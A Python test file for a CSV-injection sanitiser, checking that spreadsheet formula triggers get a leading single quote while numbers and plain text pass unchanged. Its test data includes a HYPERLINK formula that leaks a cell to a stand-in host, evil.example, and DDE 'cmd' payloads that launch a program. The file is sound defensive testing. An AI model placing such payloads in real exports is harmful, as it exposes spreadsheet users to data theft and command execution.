"""Every CSV the workbench writes is safe to open in a spreadsheet (retrieval/core/safecsv.py; OWASP, "CSV
Injection"): a text cell starting with = + - @ TAB CR (or NUL, or one of = + - @ after leading whitespace) gets a
single quote in front; numbers, booleans and plain text are written as they are."""

from __future__ import annotations

import csv
import io

import pytest

from retrieval.core.safecsv import csv_text, safe_cell

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1)'


@pytest.mark.parametrize("value, cell", [
    (LEAK, "'" + LEAK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\x00x", "'\x00x"),
    ("  =1+1", "'  =1+1"),       # reaches a trigger after leading whitespace
    ("\n@SUM(A1)", "'\n@SUM(A1)"),
    ("-0.25", "'-0.25"),          # text that looks like a number is still text from an id
    ("doc-1", "doc-1"), ("a=b", "a=b"), ("", ""), ("   ", "   "), ("'quoted", "'quoted"),
    (-0.25, -0.25), (-3, -3), (0, 0), (True, True), (None, ""),
])
def test_a_cell_is_neutralised_only_where_a_spreadsheet_would_evaluate_it(value, cell) -> None:
    assert safe_cell(value) == cell


def test_csv_text_neutralises_header_and_cells_and_keeps_numbers_as_numbers() -> None:
    text = csv_text(["id", "=bad header", "delta"], [[LEAK, "x,y", -0.5], ['@a"b', None, 1.25]])
    assert text.splitlines() == ["id,'=bad header,delta",
                                 '"\'=HYPERLINK(""http://evil.example/?leak=""&A1)","x,y",-0.5',
                                 '"\'@a""b",,1.25']
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + LEAK, "x,y", "-0.5"] and rows[2] == ["'@a\"b", "", "1.25"]
    assert csv_text(["a"], [["x"]], lineterminator="\r\n") == "a\r\nx\r\n"
